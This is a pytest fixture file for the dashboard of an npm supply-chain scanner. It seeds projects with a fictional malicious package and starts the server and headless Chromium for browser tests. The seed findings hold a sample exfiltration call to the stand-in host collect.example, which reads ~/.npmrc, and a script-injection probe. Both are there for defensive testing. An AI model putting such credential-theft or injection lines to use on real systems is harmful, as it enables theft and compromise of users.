"""A store with projects worth looking at, the dashboard serving it, and one headless Chromium for
every page test (Debian's `chromium`, driven by Playwright, fresh profile, no network services)."""

from __future__ import annotations

import datetime as dt
import threading
import time
from pathlib import Path

import pytest

from storedb import *  # noqa: F401,F403 - the two databases

TOKEN = "dashboard-test-token-0123456789"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]


def seed(url: str) -> dict[str, int]:
    """Three projects: one with a malicious package deep in its tree (sandbox timeline, version diff,
    provenance, firewall decisions), one with a vulnerability, one clean; two runs each for a trend."""
    from sqlalchemy import select

    from npmward.model import (
        Action,
        Confidence,
        Finding,
        Level,
        PackageId,
        PackageReport,
        ScanReport,
        Severity,
        Verdict,
    )
    from npmward.store import Store, now
    from npmward.store.models import Finding as Row
    from npmward.store.models import FirewallDecision, Package, Project
    from npmward.store.record import RunInfo, ensure_snapshot, record_report

    exfil = Finding("code/exfiltration", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
                    "reads ~/.npmrc and sends it to a remote host", "lib/index.js", 42,
                    "https.request({host: 'collect.example'}, ...) <script>alert(1)</script>")
    timeline = Finding("dynamic/timeline", Severity.INFO, Confidence.HIGH, "dynamic", "what it did", details={
        "timeline": {"install": [
            {"phase": "install", "ts": 100.0, "kind": "exec", "pid": 1, "summary": "exec node postinstall.js"},
            {"phase": "install", "ts": 100.25, "kind": "open", "pid": 1, "summary": "open /home/user/.npmrc"},
            {"phase": "install", "ts": 100.5, "kind": "dns", "pid": None, "summary": "dns collect.example"}]}})
    diff = Finding("version-diff/new-script", Severity.HIGH, Confidence.HIGH, "install-script",
                   "1.0.1 adds a postinstall script that 1.0.0 did not have", "package.json")
    provenance = Finding("provenance/missing", Severity.MEDIUM, Confidence.MEDIUM, "provenance",
                         "1.0.0 had provenance; this version has none",
                         details={"check": "provenance", "status": "failed"})
    vuln = Finding("audit/vulnerability", Severity.HIGH, Confidence.HIGH, "vulnerability", "prototype pollution",
                   details={"id": "GHSA-xvch-5gv4-984h", "fixed_in": "1.2.6"})

    def pkg(name, version, level=Level.CLEAN, findings=(), path=(), action=Action.ALLOW):
        return PackageReport(PackageId(name, version), "registry:x", None,
                             Verdict(level, {"malicious": 9.5, "suspicious": 5.0}.get(level.value, 0.0)),
                             tuple(findings), (("web@1.0.0", *path, f"{name}@{version}"),), action)

    web = [pkg("express", "4.21.0"), pkg("body-parser", "1.20.3", path=("express@4.21.0",)),
           pkg("event-stream-helper", "1.0.1", Level.MALICIOUS, [exfil, timeline, diff, provenance],
               ("express@4.21.0", "body-parser@1.20.3"), Action.BLOCK),
           pkg("minimist", "1.2.5", Level.SUSPICIOUS, [vuln], ("mkdirp@0.5.5",), Action.WARN),
           pkg("mkdirp", "0.5.5")]
    api = [pkg("minimist", "1.2.5", Level.SUSPICIOUS, [vuln], (), Action.WARN), pkg("koa", "2.15.0")]
    docs = [pkg(f"lib-{i}", "1.0.0") for i in range(12)]
    ids: dict[str, int] = {}
    with Store(url) as store:
        for name, before, after in (("web", web[:2], web), ("api", api[1:], api), ("docs", docs, docs)):
            for digest, packages in (("one", before), ("two", after)):
                with store.session() as session:
                    project = session.execute(select(Project).where(Project.name == name)).scalar_one_or_none()
                    if project is None:
                        project = Project(name=name, source=f"/srv/{name}", kind="path", mode="scan",
                                          created_at=now() - dt.timedelta(days=3))
                        session.add(project)
                        session.flush()
                    snapshot, _ = ensure_snapshot(session, project, digest, f"/srv/{name}/package-lock.json",
                                                  "package-lock@3")
                    record_report(session, ScanReport(tuple(packages)), RunInfo("monitor", "first", now()),
                                  project=project, snapshot=snapshot)
                    ids[name] = project.id
        with store.session() as session:
            ids["evil"] = session.execute(select(Package.id).where(Package.name == "event-stream-helper")).scalar_one()
            ids["exfil"] = session.execute(select(Row.id).where(Row.rule == "code/exfiltration")).scalar_one()
            for i, action in enumerate(["allow"] * 6 + ["block", "warn"]):
                session.add(FirewallDecision(digest=f"d{i}", package="event-stream-helper" if action == "block" else f"lib-{i}",
                                             version="1.0.1", action=action, reason="known malware" if action == "block" else "clean",
                                             at=now() - dt.timedelta(days=i % 3), extra={}))
    return ids


class LiveServer:
    """The dashboard on 127.0.0.1, a free port, in a thread."""

    def __init__(self, url: str, token: str | None):
        import uvicorn

        from npmward.dashboard.app import create_app
        from npmward.store import Store

        self.store = Store(url)
        self.server = uvicorn.Server(uvicorn.Config(create_app(self.store, token), host="127.0.0.1", port=0,
                                                    log_level="warning", access_log=False, lifespan="off"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("the dashboard did not start")
            time.sleep(0.05)
        port = self.server.servers[0].sockets[0].getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"

    def stop(self) -> None:
        self.server.should_exit = True
        self.thread.join(10)
        self.store.close()


@pytest.fixture(scope="session")
def browser():
    if not CHROMIUM.exists():
        pytest.fail("Debian's chromium is not installed (scripts/test.sh installs it)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="session")
def live(tmp_path_factory):
    """The seeded dashboard (SQLite) with a token: shared by the browser tests."""
    url = f"sqlite:///{tmp_path_factory.mktemp('dash') / 'store.sqlite'}"
    ids = seed(url)
    server = LiveServer(url, TOKEN)
    server.ids = ids
    yield server
    server.stop()
